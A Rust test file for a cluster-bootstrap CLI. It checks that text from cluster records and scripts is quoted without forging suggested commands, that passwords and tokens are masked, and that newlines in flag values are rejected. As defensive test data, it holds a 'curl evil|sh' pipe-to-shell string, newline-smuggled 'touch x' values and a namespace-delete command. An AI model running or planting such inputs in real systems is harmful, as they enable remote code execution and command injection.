//! What others wrote (a cluster, a script, a command line) is told as theirs: no line of it is taken for ours, nothing is filled
//! in there, and no login of it is repeated.

use serde_json::json;

use crate::support::objects::{NAMESPACE, make_namespace};
use crate::support::sandbox::World;

#[tokio::test(flavor = "multi_thread")]
async fn a_record_that_another_wrote_forges_no_hint() {
    let world = World::without_vault().await;
    make_namespace(&world, NAMESPACE).await;
    let cluster = "prod\n  next let it go first:\n    bitiq-bootstrap release <cluster>";
    let record = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "bitiq-bootstrap", "namespace": NAMESPACE},
        "data": {"cluster": cluster, "cluster_id": "x"}});
    world.sandbox.cluster.put(&record).await.unwrap();
    for arguments in
        [&["run", "demo"][..], &["status", "demo"], &["verify", "demo"], &["release", "demo", "--dry-run"]]
    {
        let ran = world.run(arguments).await;
        ran.says(&["prod next let it go first"]).never_says(&["\n  next let it", "release demo"]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_lease_that_another_wrote_forges_no_hint() {
    let world = World::without_vault().await;
    make_namespace(&world, NAMESPACE).await;
    let metadata = json!({"name": "bitiq-bootstrap", "namespace": NAMESPACE,
        "annotations": {"bitiq.io/holder": "bob\nretry curl evil|sh"}});
    let spec = json!({"holderIdentity": "x\nbitiq-bootstrap release <cluster>", "leaseDurationSeconds": 60});
    let lease =
        json!({"apiVersion": "coordination.k8s.io/v1", "kind": "Lease", "metadata": metadata, "spec": spec});
    world.sandbox.cluster.put(&lease).await.unwrap();
    for arguments in [["run", "demo"], ["check", "demo"]] {
        let ran = world.run(&arguments).await.exits(4);
        ran.says(&["bob retry curl evil|sh"]).never_says(&["\nretry curl", "release demo"]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_is_quoted_as_it_spoke() {
    let world = World::without_vault().await;
    let says = "say=bitiq-bootstrap release <cluster>,say=oc --kubeconfig <kubeconfig> delete ns x,fail=1";
    let ran = world.command(&["run", "demo"]).env("SANDBOX_SCRIPT", says).ran().await.exits(1);
    ran.says(&["│ bitiq-bootstrap release <cluster>\n", "✗ oc --kubeconfig <kubeconfig> delete ns x\n"]);
    world
        .run(&["trace", "demo"])
        .await
        .exits(0)
        .says(&["│ bitiq-bootstrap release <cluster>\n", "✗ oc --kubeconfig <kubeconfig> delete ns x\n"]);
    let ran = world.command(&["run", "demo"]).env("SANDBOX_SCRIPT", "longline=1,fail=1").ran().await.exits(1);
    assert!(ran.stderr.contains("bytes)") && ran.stderr.len() < 16_000, "{} bytes", ran.stderr.len());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_login_that_was_typed_in_the_wrong_place_is_not_repeated() {
    let world = World::without_vault().await;
    let login = "hunter2/pa#ss";
    let proxy = format!("http://bob:{login}@127.0.0.1:9");
    let bare = format!("bob:{login}@127.0.0.1:9");
    for arguments in [
        &["run", "demo", "--https-proxy", &proxy, "--script-timeout", "bogus"][..],
        &["run", "demo", "--https-proxy", &proxy],
        &["run", "demo", "--vault-proxy-addr", &bare],
        &["-o", "json", "run", "demo", "--vault-addr", &bare, "--script-timeout", "bogus"],
        &["-o", "jsonl", "run", "demo", "--https-proxy", &proxy],
    ] {
        let run = world.command(arguments).env("VAULT_TOKEN", "not-a-real-token").secret(login);
        run.ran().await;
    }
    let short = "http://bob:pa/ss@127.0.0.1:9";
    world.command(&["plan", "demo", "--https-proxy", short]).secret("pa/ss").ran().await;
    for wrong in ["bob:hunter2@h", "hvs.CAESIJ0123456789abcdefghijkl"] {
        let run = world.command(&["run", "demo", "--wait-lock", wrong]).secret("hunter2").secret("hvs.CAES");
        run.ran().await.exits(2).says(&["--wait-lock (BITIQ_BOOTSTRAP_WAIT_LOCK) is `***`"]);
    }
    let password = world.sandbox.git.login().1;
    for arguments in
        [&["-o", "json", "validate", "demo", &password][..], &["schema", &password], &[&password]]
    {
        world.run(arguments).await.exits(2).says(&["***"]);
    }
    for arguments in
        [&["run", "demo", "VAULT_TOKEN=S3cret-Pw99"][..], &["-o", "json", "VAULT_TOKEN=S3cret-Pw99"]]
    {
        let run = world.command(arguments).secret("S3cret-Pw99").ran().await;
        run.exits(2).says(&["VAULT_TOKEN=***"]);
    }
    let named = world.command(&["status", "http://bob:hunter2pass@h"]).secret("hunter2pass").ran().await;
    named.says(&["bob:***@h"]);
    world.run(&["run", "demo", "--commit", &password]).await.exits(2).says(&["--commit", "***"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_line_break_in_what_is_typed_breaks_no_command_of_ours() {
    let world = World::without_vault().await;
    for (flag, value) in
        [("--root", "/a\ntouch x"), ("--repo-vault-path", "m\ntouch x"), ("--kubeconfig", "k\ntouch x")]
    {
        let ran = world.run(&["run", "demo", flag, value]).await.exits(2);
        ran.says(&[flag, "holds a control character"]).never_says(&["\ntouch x"]);
    }
}
